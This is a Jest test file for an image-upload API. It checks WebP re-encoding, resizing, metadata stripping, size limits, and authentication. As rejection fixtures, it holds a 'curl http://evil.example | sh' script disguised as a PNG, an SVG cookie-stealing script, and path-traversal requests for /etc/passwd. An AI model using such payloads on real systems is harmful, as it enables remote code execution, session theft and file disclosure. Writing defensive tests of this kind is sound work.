import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import sharp from 'sharp';
import { customer } from '@app/testing';
import { CatalogHarness, startCatalogHarness } from './support/catalog-harness';

jest.setTimeout(60_000);

/** A photo with EXIF orientation 6 (rotate 90°) and a comment, as phones write them. */
async function jpegWithMetadata(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 80, b: 40 } } })
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6, exif: { IFD0: { Copyright: 'Secret GPS Owner', ImageDescription: 'private' } } })
    .toBuffer();
}

function png(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 10, g: 120, b: 200, alpha: 1 } } })
    .png()
    .toBuffer();
}

/** Reads a binary response body (supertest parses only text by default). */
function collect(res: import('superagent').Response, done: (error: Error | null, body: unknown) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => done(null, Buffer.concat(chunks)));
}

describe('image uploads', () => {
  let catalog: CatalogHarness;
  const person = customer(801);

  beforeAll(async () => {
    catalog = await startCatalogHarness('catalog-uploads', { UPLOAD_MAX_BYTES: String(200 * 1024) });
  });

  afterAll(async () => {
    await catalog?.stop();
  });

  const upload = (bytes: Buffer, filename: string, contentType = 'image/png') =>
    catalog
      .http()
      .post('/api/upload/image')
      .set(catalog.signed(person))
      .attach('image', bytes, { filename, contentType });

  it('accepts a real PNG, re-encodes it as WebP and serves it with immutable caching', async () => {
    const response = await upload(await png(2400, 1200), 'shop-front.png');
    expect(response.status).toBe(201);
    expect(response.body.imageUrl).toMatch(/^\/uploads\/\d{4}\/\d{2}\/[a-f0-9]{32}\.webp$/);

    const served = await catalog
      .http()
      .get(response.body.imageUrl)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    const metadata = await sharp(served.body as Buffer).metadata();
    expect(metadata).toMatchObject({ format: 'webp', width: 1600, height: 800 });
  });

  it('stores 400 and 800 px wide copies beside the image, and serves the image itself for a copy never made', async () => {
    const response = await upload(await png(2400, 1200), 'counter.png');
    const base = (response.body.imageUrl as string).replace(/\.webp$/, '');
    for (const width of [400, 800]) {
      const served = await catalog.http().get(`${base}-${width}.webp`).buffer(true).parse(collect);
      expect(served.headers['content-type']).toBe('image/webp');
      expect(await sharp(served.body as Buffer).metadata()).toMatchObject({ width, height: width / 2 });
    }
    const narrow = await upload(await png(300, 200), 'narrow.png');
    const copy = await catalog
      .http()
      .get((narrow.body.imageUrl as string).replace(/\.webp$/, '-800.webp'))
      .buffer(true)
      .parse(collect);
    expect(copy.status).toBe(200);
    expect(await sharp(copy.body as Buffer).metadata()).toMatchObject({ width: 300, height: 200 });
  });

  it('accepts a real JPEG, turns it upright and strips its metadata', async () => {
    const original = await jpegWithMetadata(300, 200);
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const response = await upload(original, 'photo.jpg', 'image/jpeg');
    expect(response.status).toBe(201);
    const relative = response.body.imageUrl.replace('/uploads/', '');
    const stored = await sharp(join(catalog.dataDir, 'uploads', relative)).metadata();
    expect(stored).toMatchObject({ format: 'webp', width: 200, height: 300 });
    expect(stored.exif).toBeUndefined();
    expect(stored.icc).toBeUndefined();
  });

  it('refuses a script renamed .png', async () => {
    const response = await upload(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'innocent.png');
    expect(response.status).toBe(400);
    expect(response.body.message).toBe('The file is not a supported image (JPEG, PNG, WebP or GIF).');
  });

  it('refuses an SVG with a script, whatever it claims to be', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>',
    );
    for (const [name, type] of [
      ['logo.svg', 'image/svg+xml'],
      ['logo.png', 'image/png'],
    ]) {
      const response = await upload(svg, name, type);
      expect({ status: response.status, message: response.body.message }).toEqual({
        status: 400,
        message: 'The file is not a supported image (JPEG, PNG, WebP or GIF).',
      });
    }
  });

  it('refuses a file over the size limit with 413', async () => {
    const noise = await sharp(Buffer.from(Array.from({ length: 400 * 400 * 3 }, (_, i) => (i * 7919) % 251)), {
      raw: { width: 400, height: 400, channels: 3 },
    })
      .png({ compressionLevel: 0 })
      .toBuffer();
    expect(noise.length).toBeGreaterThan(200 * 1024);
    const response = await upload(noise, 'big.png');
    expect(response.status).toBe(413);
    expect(response.body.message).toBe('The image must be at most 0.2 MB.');
  });

  it('refuses an empty field and a missing one', async () => {
    const empty = await upload(Buffer.alloc(0), 'empty.png');
    expect(empty.status).toBe(400);
    expect(empty.body.message).toBe('Please choose an image to upload.');
    const none = await catalog.http().post('/api/upload/image').set(catalog.signed(person)).field('other', 'x');
    expect(none.status).toBe(400);
    expect(none.body.message).toBe('Please choose an image to upload.');
    const wrongField = await catalog
      .http()
      .post('/api/upload/image')
      .set(catalog.signed(person))
      .attach('file', await png(10, 10), 'a.png');
    expect(wrongField.body.message).toBe('Please choose an image to upload.');
  });

  it('needs a signed-in person', async () => {
    const response = await catalog
      .http()
      .post('/api/upload/image')
      .attach('image', await png(10, 10), 'a.png');
    expect(response.status).toBe(401);
  });

  it('serves nothing outside the uploads folder', async () => {
    for (const path of [
      '/uploads/../../etc/passwd',
      '/uploads/..%2F..%2Fetc%2Fpasswd',
      '/uploads/2025/01/nothing.webp',
    ]) {
      const response = await catalog.http().get(path);
      expect(response.status).toBe(404);
    }
    const files = await readdir(join(catalog.dataDir, 'uploads'), { recursive: true });
    expect(files.some((file) => file.endsWith('.png') || file.endsWith('.jpg'))).toBe(false);
  });
});
